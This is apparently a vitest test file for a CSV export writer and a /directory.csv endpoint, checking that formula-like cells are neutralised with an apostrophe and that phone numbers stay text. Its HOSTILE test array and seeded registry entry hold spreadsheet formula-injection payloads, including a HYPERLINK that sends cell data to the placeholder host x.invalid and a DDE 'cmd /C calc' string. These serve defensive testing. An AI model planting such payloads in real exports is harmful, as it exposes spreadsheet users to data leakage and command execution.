// Issue 18, item 5: every CSV export goes through one writer (src/util/csv.ts) that a spreadsheet
// cannot be attacked through, that keeps phone numbers the text they are, and that has an
// Excel-friendly variant. The writer with hostile cells, then the directory over HTTP.

import pino from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildApp, type App } from '../../src/api/app.ts';
import type { ProbeRecord } from '../../src/domain.ts';
import { assertLoadable, parseRegistry } from '../../src/registry/load.ts';
import { syncRegistry } from '../../src/registry/sync.ts';
import { openDatabase, type DB } from '../../src/store/db.ts';
import { ProbeWriter } from '../../src/store/probe-writer.ts';
import { csvDialect, CsvOptionError, guardCell, PLAIN_CSV, writeCsv } from '../../src/util/csv.ts';
import { tempDir } from '../helpers/tmp.ts';
import { csvRecords, parseCsv } from '../reports/csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://x.invalid/?"&A1,"help")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];

describe('the writer', () => {
  test('every cell that would start a formula gets an apostrophe, in both variants; the rest is untouched', () => {
    for (const dialect of [PLAIN_CSV, csvDialect({ excel: true, lang: 'ru' })]) {
      const text = writeCsv(['cell'], HOSTILE.map((h) => [h]), dialect).replace(/^\uFEFF/, '');
      const cells = parseCsv(text, dialect.separator).slice(1).map((r) => r[0]);
      expect(cells).toEqual(HOSTILE.map((h) => `'${h}`));
    }
    for (const safe of ['Перспектива', 'a=b', "'quoted", '', ' =1 (a space first: not a formula)']) expect(guardCell(safe)).toBe(safe);
  });

  test('numbers that are numbers stay numbers, negative ones too; with ";" they get a decimal comma', () => {
    const rows = [[-5, 0.9659, 12, Number.NaN, null]];
    expect(writeCsv(['a', 'b', 'c', 'd', 'e'], rows)).toBe('a,b,c,d,e\n-5,0.9659,12,,\n');
    expect(writeCsv(['a', 'b', 'c', 'd', 'e'], rows, csvDialect({ excel: true, lang: 'kk' }))).toBe('\uFEFFa;b;c;d;e\r\n-5;0,9659;12;;\r\n');
    expect(writeCsv(['a', 'b'], [[-5, 0.5]], csvDialect({ excel: true, lang: 'en' }))).toBe('\uFEFFa,b\r\n-5,0.5\r\n');
  });

  test('phone numbers stay text: "+7…" by the formula rule everywhere, digit-only ones in the Excel variant', () => {
    const rows = [['+77272619580'], ['87252339251'], ['8 (727) 261-95-80'], ['7']];
    expect(csvRecords(writeCsv(['phone'], rows)).records.map((r) => r.phone)).toEqual(["'+77272619580", '87252339251', '8 (727) 261-95-80', '7']);
    const excel = writeCsv(['phone'], rows, csvDialect({ excel: '1' })).slice(1);
    expect(csvRecords(excel).records.map((r) => r.phone)).toEqual(["'+77272619580", "'87252339251", '8 (727) 261-95-80', '7']);
  });

  test('quoting follows RFC 4180 for the separator in use: separators, quotes and line breaks inside a cell survive', () => {
    const cells = ['a;b', 'a,b', 'say "hi"', 'two\nlines', 'tab\there', ' padded '];
    for (const sep of [',', ';', 'tab']) {
      const d = csvDialect({ excel: true, sep });
      const back = parseCsv(writeCsv(['x'], cells.map((c) => [c]), d).slice(1), d.separator).slice(1).map((r) => r[0]);
      expect(back, sep).toEqual(cells);
    }
  });

  test('options are checked and a bad one is named', () => {
    expect(csvDialect({})).toEqual(PLAIN_CSV);
    expect(csvDialect({ excel: 'true', lang: 'ru' })).toEqual({ excel: true, separator: ';' });
    expect(csvDialect({ excel: false, lang: 'ru' })).toEqual({ excel: false, separator: ',' });
    expect(csvDialect({ excel: '1', lang: 'ru', sep: ',' })).toEqual({ excel: true, separator: ',' });
    expect(() => csvDialect({ excel: 'yes please' })).toThrow(CsvOptionError);
    expect(() => csvDialect({ sep: '|' })).toThrow(/must be "," \(comma\), ";" \(semicolon\) or tab, not "\|"/);
  });
});

describe('the verified directory as CSV', () => {
  let db: DB;
  let app: App;
  let cleanup: () => void;

  beforeAll(async () => {
    const t = tempDir();
    cleanup = t.remove;
    db = openDatabase(t.dir);
    const reg = `- id: hostile
  name: '=HYPERLINK("http://x.invalid/?"&A1,"help")'
  kind: hotline
  region_normalized: Almaty Region
  channels:
    - {type: phone, value: "+7 727 261 95 80"}
    - {type: website, value: "https://hostile.example.kz/"}
`;
    syncRegistry(db, assertLoadable(parseRegistry(reg, 'r.yaml')), 'r.yaml', 'x');
    const writer = new ProbeWriter(db, { rules: { confirmations: 1 }, batchMaxRows: 100, flushIntervalMs: 5 });
    const at = Date.now() - 86_400_000;
    const rec = (channelId: string): ProbeRecord => ({
      channelId, jobId: null, dueAt: at, startedAt: at, durationMs: 1, evidence: { method: 'http', v: 1 }, classification: { outcome: 'reachable', reason: 'r', detail: 'd', flags: [] },
    });
    const ps = [writer.add(rec('hostile--phone-77272619580')), writer.add(rec('hostile--web-hostile-example-kz'))];
    writer.flush();
    await Promise.all(ps);
    writer.close();
    app = await buildApp({ db, monitor: null, logger: pino({ level: 'silent' }) });
  });

  afterAll(async () => {
    await app.close();
    db.close();
    cleanup();
  });

  test('plain: no byte-order mark, LF, the name guarded, the phone number kept as text', async () => {
    const res = await app.inject('/directory.csv');
    expect(res.statusCode).toBe(200);
    expect(res.body.charCodeAt(0)).not.toBe(0xfeff);
    expect(res.body).not.toContain('\r');
    const rows = csvRecords(res.body).records;
    const phone = rows.find((r) => r.channel_type === 'phone');
    expect(phone?.center_name).toBe(`'=HYPERLINK("http://x.invalid/?"&A1,"help")`);
    expect(phone?.value).toBe("'+7 727 261 95 80");
    expect(phone?.target).toBe("'+77272619580");
  });

  test('excel=1 for a Russian reader: byte-order mark, ";", CRLF, the same guards', async () => {
    const res = await app.inject({ url: '/directory.csv?excel=1', headers: { 'accept-language': 'ru-RU,ru;q=0.9' } });
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const body = res.body.replace(/^\uFEFF/, '');
    expect(body.split('\r\n')[0]).toBe('center_id;center_name;kind;region;city;channel_type;value;target;last_verified_at');
    expect(body.endsWith('\r\n')).toBe(true);
    expect(body.replaceAll('\r\n', '')).not.toContain('\n');
    const phone = csvRecords(body, ';').records.find((r) => r.channel_type === 'phone');
    expect(phone?.center_name).toBe(`'=HYPERLINK("http://x.invalid/?"&A1,"help")`);
    expect(phone?.target).toBe("'+77272619580");
  });

  test('lang and sep choose the separator; bad values are a 400 naming the parameter', async () => {
    expect((await app.inject('/directory.csv?excel=1&lang=en')).body.split('\r\n')[0]).toBe('\uFEFFcenter_id,center_name,kind,region,city,channel_type,value,target,last_verified_at');
    expect((await app.inject('/directory.csv?excel=true&lang=ru&sep=tab')).body.split('\r\n')[0]).toBe('\uFEFFcenter_id\tcenter_name\tkind\tregion\tcity\tchannel_type\tvalue\ttarget\tlast_verified_at');
    expect((await app.inject('/directory.csv?sep=;')).body.split('\n')[0]).toBe('center_id;center_name;kind;region;city;channel_type;value;target;last_verified_at');
    for (const [q, param] of [['excel=maybe', 'excel'], ['sep=pipe', 'sep'], ['excel=1&lang=de', 'lang']] as const) {
      const bad = await app.inject(`/directory.csv?${q}`);
      expect(bad.statusCode, q).toBe(400);
      expect((bad.json() as { message: string }).message, q).toContain(`"${param}"`);
    }
  });
});
